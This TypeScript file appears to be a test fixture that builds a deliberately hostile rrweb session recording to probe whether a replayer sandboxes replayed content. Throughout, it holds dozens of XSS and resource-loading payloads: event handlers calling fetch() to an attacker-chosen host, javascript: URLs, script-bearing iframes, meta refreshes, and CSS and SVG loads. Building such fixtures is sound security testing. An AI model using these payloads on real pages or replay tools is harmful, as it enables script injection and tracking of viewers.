/** A recording by somebody who means harm: everything in rrweb's format that might run, ask, navigate or open. */

type Attributes = Record<string, unknown>;
interface Node {
  readonly type: number;
  readonly id: number;
  readonly [key: string]: unknown;
}

const START = 1_764_000_000_000;
let next = 100;

const text = (textContent: string, extra: object = {}): Node => ({
  type: 3,
  id: next++,
  textContent,
  ...extra,
});
const tag = (
  tagName: string,
  attributes: Attributes = {},
  childNodes: Node[] = [],
  extra: object = {},
): Node => ({
  type: 2,
  id: next++,
  tagName,
  attributes,
  childNodes,
  ...extra,
});
const svg = (tagName: string, attributes: Attributes = {}, childNodes: Node[] = []): Node =>
  tag(tagName, attributes, childNodes, { isSVG: true });

/** Everything tells where it got: by a request that names it, or by a word on the top page. */
export const hostileRecording = (evil: string, breaking: boolean): { events: unknown[]; count: number } => {
  let count = 0;
  const url = (id: string) => {
    count++;
    return `${evil}/${id}`;
  };
  const js = (id: string) => {
    count++;
    return `(top.pwned = top.pwned || []).push('${id}'); fetch('${evil}/js-${id}')`;
  };
  const css = (id: string) => `url("${url(id)}")`;
  const handlers = (id: string): Attributes => ({
    onload: js(`${id}-onload`),
    onerror: js(`${id}-onerror`),
    onclick: js(`${id}-onclick`),
    onfocus: js(`${id}-onfocus`),
    onmouseover: js(`${id}-onmouseover`),
    onanimationstart: js(`${id}-onanimationstart`),
    ontoggle: js(`${id}-ontoggle`),
  });

  const head = [
    tag('base', { href: `${evil}/base/` }),
    tag('meta', { 'http-equiv': 'refresh', content: `0;url=${url('meta-refresh')}` }),
    tag('meta', { 'http-equiv': 'refresh', content: `0;url=javascript:${js('meta-js')}` }),
    tag('meta', { 'http-equiv': 'Content-Security-Policy', content: "default-src * 'unsafe-inline'" }),
    tag('meta', { 'http-equiv': 'set-cookie', content: 'pwned=1' }),
    ...[
      'stylesheet',
      'preload',
      'prefetch',
      'preconnect',
      'dns-prefetch',
      'modulepreload',
      'icon',
      'manifest',
      'prerender',
      'import',
    ].map((rel) =>
      tag('link', {
        rel,
        href: url(`link-${rel}`),
        as: 'image',
        crossorigin: '',
        ...handlers(`link-${rel}`),
      }),
    ),
    tag('link', { rel: 'stylesheet', _cssText: `body{background:${css('link-csstext')}}` }),
    tag('style', { _cssText: `@import ${css('style-import')};@import "${url('style-import-string')}";` }),
    tag('style', {
      _cssText: `@font-face{font-family:f;src:${css('font-face')}}body{font-family:f;background-image:${css('style-attribute')}}
        p{background:image-set("${url('image-set')}" 1x);cursor:${css('cursor')},auto}
        h1{background:u\\72l("${url('escaped-url')}")}
        h2{--x:${css('custom-property')};background:var(--x)}
        h3{background:${css('pending-shorthand')} var(--y, red)}
        h4{mask-image:${css('mask')};filter:${css('filter')};clip-path:${css('clip-path')};border-image-source:${css('border-image')};list-style-image:${css('list-style')};content:${css('content')}}
        @media all{@supports (color:red){ol{background:${css('nested')}}}}
        ul{& li{background:${css('nesting')}}}
        @property --p{syntax:"<image>";inherits:false;initial-value:${css('at-property')}}
        @counter-style c{system:cyclic;symbols:${css('counter-style')}}
        @keyframes k{to{background-image:${css('keyframes')}}}
        h5{animation:k 1s infinite;background:-webkit-cross-fade(${css('cross-fade')},${css('cross-fade-2')},50%)}`,
    }),
    tag('style', {}, [text(`em{background:${css('style-text')}}`, { isStyle: true })]),
    tag('script', { src: url('script-src'), ...handlers('script') }),
    tag('script', {}, [text(js('script-text'))]),
    tag('script', { type: 'module' }, [text(js('script-module'))]),
    tag('script', { type: 'speculationrules' }, [
      text(
        JSON.stringify({
          prefetch: [{ urls: [url('speculation')] }],
          prerender: [{ urls: [url('speculation-prerender')] }],
        }),
      ),
    ]),
    tag('noscript', {}, [tag('img', { src: url('noscript-img') })]),
  ];

  const loaders = [
    tag('img', { src: url('img-src'), srcset: `${url('img-srcset')} 2x`, ...handlers('img') }),
    tag('img', { src: `javascript:${js('img-js')}` }),
    tag('img', { rr_dataURL: url('img-rr-dataurl') }),
    tag('img', { loading: 'lazy', longdesc: url('longdesc'), lowsrc: url('lowsrc'), dynsrc: url('dynsrc') }),
    tag('picture', {}, [
      tag('source', { srcset: url('source-srcset') }),
      tag('img', { src: url('picture-img') }),
    ]),
    tag(
      'video',
      {
        src: url('video-src'),
        poster: url('video-poster'),
        autoplay: true,
        rr_mediaState: 'played',
        ...handlers('video'),
      },
      [
        tag('source', { src: url('video-source') }),
        tag('track', { src: url('track'), default: true, kind: 'captions' }),
      ],
    ),
    tag('audio', { src: url('audio-src'), autoplay: true, rr_mediaState: 'played' }),
    tag('embed', { src: url('embed') }),
    tag('object', { data: url('object-data'), codebase: url('object-codebase') }, [
      tag('param', { name: 'movie', value: url('param') }),
    ]),
    tag('applet', { code: url('applet'), archive: url('applet-archive') }),
    tag('iframe', { src: url('iframe-src'), ...handlers('iframe') }),
    tag('iframe', { src: `javascript:${js('iframe-js')}` }),
    tag('iframe', { srcdoc: `<img src="${url('srcdoc-img')}"><script>${js('srcdoc-script')}</script>` }),
    tag('iframe', {
      src: `data:text/html,<script>${js('data-script')}</script><img src="${url('data-img')}">`,
    }),
    tag('iframe', { rr_src: url('rr-src'), allow: '*', csp: 'default-src *' }),
    tag('frameset', {}, [tag('frame', { src: url('frame-src') })]),
    tag('portal', { src: url('portal') }),
    tag('fencedframe', { src: url('fencedframe') }),
    tag('input', { type: 'image', src: url('input-image'), autofocus: true, ...handlers('input') }),
    tag('body', { background: url('body-background') }),
    tag('table', { background: url('table-background') }),
    tag('blockquote', { cite: url('cite') }),
    tag(
      'a',
      { href: url('a-href'), ping: url('a-ping'), target: '_top', autofocus: true, ...handlers('a') },
      [text('free money')],
    ),
    tag('a', { href: `javascript:${js('a-js')}` }, [text('click')]),
    tag('map', { name: 'm' }, [tag('area', { href: url('area'), shape: 'default' })]),
    tag('form', { action: url('form-action'), method: 'post', target: '_top', ...handlers('form') }, [
      tag('input', { name: 'secret', value: 'x' }),
      tag('button', { formaction: url('formaction'), type: 'submit', autofocus: true }, [text('send')]),
    ]),
    tag('div', { style: `background:${css('style-inline')};list-style:${css('style-inline-list')}` }),
    tag('div', { style: `background:ur\\6c(${url('style-escaped')})` }),
    tag('div', { style: `background:image-set("${url('style-image-set')}" 1x)` }),
    tag('details', { open: true, ...handlers('details') }),
    tag('canvas', { rr_dataURL: url('canvas-rr-dataurl') }),
    tag('template', {}, [tag('img', { src: url('template-img') })]),
    tag('x-evil', { is: 'x-evil', ...handlers('custom') }, [], { isCustom: true }),
    tag('dialog', { open: true, rr_open_mode: 'modal' }, [tag('img', { src: url('dialog-img') })]),
    tag(
      'div',
      {},
      [
        tag('img', { src: url('shadow-img'), isShadow: true }, [], { isShadow: true }),
        tag('style', { _cssText: `:host{background:${css('shadow-style')}}` }, [], { isShadow: true }),
      ],
      { isShadowHost: true },
    ),
    svg('svg', { width: '50', height: '50', ...handlers('svg') }, [
      svg('image', {
        href: url('svg-image'),
        'xlink:href': url('svg-xlink'),
        width: '9',
        height: '9',
        ...handlers('svg-image'),
      }),
      svg('use', { href: `${url('svg-use')}#x`, 'xlink:href': `${url('svg-use-xlink')}#x` }),
      svg('feImage', { href: url('svg-feimage') }),
      svg('a', { href: `javascript:${js('svg-a')}` }, [
        svg('animate', {
          attributeName: 'href',
          values: `javascript:${js('svg-animate')}`,
          onbegin: js('svg-onbegin'),
        }),
      ]),
      svg('set', { attributeName: 'href', to: url('svg-set') }),
      svg('script', { href: url('svg-script') }, [text(js('svg-script-text'))]),
      svg('style', {}, [text(`rect{fill:${css('svg-style')}}`)]),
      svg('rect', {
        fill: css('svg-fill'),
        filter: css('svg-filter'),
        'clip-path': css('svg-clip'),
        mask: css('svg-mask'),
        style: `fill:${css('svg-inline')}`,
        width: '9',
        height: '9',
      }),
      svg('foreignObject', {}, [
        tag('img', { src: url('foreign-img') }),
        tag('iframe', { src: url('foreign-iframe') }),
      ]),
    ]),
    tag('math', { href: url('math-href') }),
    { type: 5, id: next++, textContent: `--><img src="${url('comment')}">` },
    // rrweb itself breaks on these.
    ...(breaking
      ? [
          { type: 4, id: next++, textContent: `]]><img src="${url('cdata')}">` },
          tag('<img onerror=alert(1)>', {}),
          tag('div', { 'x y="': '1', '<': '2' }),
          { type: 77, id: next++ },
        ]
      : []),
  ];

  const target = tag('div', { class: 'target' }, [text('target')]);
  const image = tag('img', { alt: 'image' });
  const frame = tag('iframe', {});
  const sheet = tag('style', { _cssText: 'p{color:red}' });
  const canvas = tag('canvas', { width: '10', height: '10' });
  const film = tag('video', {});
  const link = tag('a', { href: '#' }, [text('link')]);
  const late = text('p{color:blue}');
  const lateStyle = tag('style', {}, [late]);
  const body = tag('body', { ...handlers('body') }, [
    ...['h1', 'h2', 'h3', 'h4', 'h5', 'em'].map((name) => tag(name, {}, [text(name)])),
    tag('ol', {}, [tag('li')]),
    tag('ul', {}, [tag('li')]),
    tag('p', {}, [text('p')]),
    target,
    image,
    frame,
    sheet,
    lateStyle,
    canvas,
    film,
    link,
    ...loaders,
  ]);
  const html = tag('html', { manifest: url('html-manifest'), ...handlers('html') }, [
    tag('head', {}, head),
    body,
  ]);
  const page: Node = {
    type: 0,
    id: 1,
    childNodes: [
      { type: 1, id: 2, name: 'html', publicId: url('doctype'), systemId: url('doctype-system') },
      html,
    ],
  };

  let at = START;
  const event = (type: number, data: object) => {
    at += 20;
    return { type, data, timestamp: at };
  };
  const change = (source: number, data: object) => event(3, { source, ...data });
  const mutation = (data: object) => change(0, { adds: [], removes: [], texts: [], attributes: [], ...data });
  const add = (node: Node, where: object = {}) =>
    mutation({ adds: [{ parentId: body.id, nextId: null, node, ...where }] });
  const set = (node: Node, attributes: Attributes) => mutation({ attributes: [{ id: node.id, attributes }] });

  const events = [
    event(4, { href: url('meta-href'), width: 800, height: 600 }),
    event(2, { node: page, initialOffset: { left: 0, top: 0 } }),
    event(0, {}),
    add(tag('img', { src: url('add-img'), ...handlers('add-img') })),
    add(tag('script', { src: url('add-script') }, [text(js('add-script-text'))])),
    add(tag('script', {}, [text(js('add-script-inline'))])),
    add(tag('link', { rel: 'preconnect', href: url('add-preconnect') })),
    add(tag('iframe', { src: url('add-iframe'), srcdoc: `<img src=${url('add-srcdoc')}>` })),
    // Neighbours that do not exist: the replayer keeps such a node detached and works on it outside the frame.
    add(tag('img', { src: url('detached-img'), ...handlers('detached-img') }), {
      previousId: -1,
      nextId: -1,
    }),
    add(tag('svg', handlers('detached-svg'), [], { isSVG: true }), { previousId: -1 }),
    mutation({
      adds: [
        {
          parentId: frame.id,
          nextId: null,
          node: {
            type: 0,
            id: next++,
            childNodes: [
              tag('html', {}, [
                tag('head', {}, [
                  tag('meta', { 'http-equiv': 'refresh', content: `0;url=${url('inner-refresh')}` }),
                ]),
                tag('body', {}, [
                  tag('img', { src: url('inner-img'), ...handlers('inner') }),
                  tag('script', {}, [text(js('inner-script'))]),
                ]),
              ]),
            ],
          },
        },
      ],
      isAttachIframe: true,
    }),
    set(image, {
      src: url('set-src'),
      srcset: `${url('set-srcset')} 1x`,
      onerror: js('set-onerror'),
      style: { background: css('set-style-object'), 'border-image': [css('set-style-pair'), ''] },
    }),
    set(image, { rr_dataURL: url('set-rr-dataurl'), 'xlink:href': url('set-xlink') }),
    set(frame, {
      src: url('set-iframe-src'),
      srcdoc: `<script>${js('set-srcdoc')}</script>`,
      sandbox: 'allow-scripts allow-same-origin allow-top-navigation',
    }),
    set(frame, { src: `javascript:${js('set-iframe-js')}` }),
    set(target, {
      style: `background:${css('set-style')}`,
      onclick: js('set-onclick'),
      onmouseover: js('set-onmouseover'),
      onfocus: js('set-onfocus'),
      tabindex: '0',
    }),
    set(sheet, { _cssText: `@import ${css('set-csstext-import')};p{background:${css('set-csstext')}}` }),
    set(link, { href: `javascript:${js('set-href')}`, ping: url('set-ping') }),
    set(canvas, { rr_dataURL: url('set-canvas-dataurl') }),
    set(film, { src: url('set-video'), poster: url('set-poster') }),
    mutation({ texts: [{ id: late.id, value: `p{background:${css('text-style')}}` }] }),
    change(8, {
      id: sheet.id,
      adds: [
        { rule: `p{background:${css('insert-rule')}}`, index: 0 },
        { rule: `@import ${css('insert-import')};`, index: 0 },
      ],
    }),
    change(8, { id: sheet.id, replaceSync: `p{background:${css('replace-sync')}}` }),
    change(13, {
      id: sheet.id,
      index: [0],
      set: { property: 'background', value: css('set-property'), priority: 'important' },
    }),
    change(15, {
      id: 1,
      styles: [{ styleId: 1, rules: [{ rule: `p{background:${css('adopted')}}`, index: 0 }] }],
      styleIds: [1],
    }),
    change(8, {
      styleId: 1,
      adds: [{ rule: `em{background:${css('adopted-insert')}}`, index: 0 }],
      replace: `em{background:${css('adopted-replace')}}`,
    }),
    change(10, { family: 'evil', fontSource: css('font'), buffer: false, descriptors: {} }),
    change(10, { family: 'sans-serif', fontSource: css('font-sans'), buffer: false }),
    set(target, { style: 'font-family: evil, sans-serif' }),
    change(9, {
      id: canvas.id,
      type: 0,
      property: 'drawImage',
      args: [{ rr_type: 'HTMLImageElement', src: url('canvas-draw') }, 0, 0],
    }),
    change(9, {
      id: canvas.id,
      type: 0,
      commands: [{ property: 'constructor', args: [js('canvas-constructor')] }],
    }),
    change(7, { id: film.id, type: 0, currentTime: 0 }),
    change(16, { define: { name: 'x-evil' } }),
    change(99, { id: target.id, eval: js('unknown-source') }),
    event(6, { plugin: 'rrweb/console@1', payload: { level: 'log', payload: [js('plugin')] } }),
    event(5, { tag: 'evil', payload: js('custom-event') }),
    event(42, { node: js('unknown-type') }),
    change(14, { ranges: [{ start: 1, startOffset: 0, end: 1, endOffset: 0 }] }),
    ...[0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10].map((type) => change(2, { type, id: target.id, x: 1, y: 1 })),
    ...[1, 2, 4, 5].map((type) => change(2, { type, id: link.id, x: 1, y: 1 })),
    change(1, { positions: [{ x: 5, y: 5, id: link.id, timeOffset: 0 }] }),
    change(5, { id: image.id, text: js('input-text'), isChecked: true }),
    event(2, { node: page, initialOffset: { left: 0, top: 0 } }),
    add(tag('img', { src: url('second-img') })),
    change(3, { id: 1, x: 0, y: 10 }),
  ];
  return { events, count };
};
